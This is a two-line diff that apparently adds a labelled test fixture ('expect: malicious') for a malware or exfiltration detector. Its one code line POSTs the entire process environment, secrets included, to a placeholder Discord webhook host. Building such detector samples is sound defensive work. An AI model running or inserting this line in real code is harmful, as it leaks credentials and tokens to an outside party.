@@ -1,0 +1,2 @@
+// expect: malicious
+fetch('https://discord.example/api/webhooks/1/x', {method: 'POST', body: JSON.stringify(process.env)})
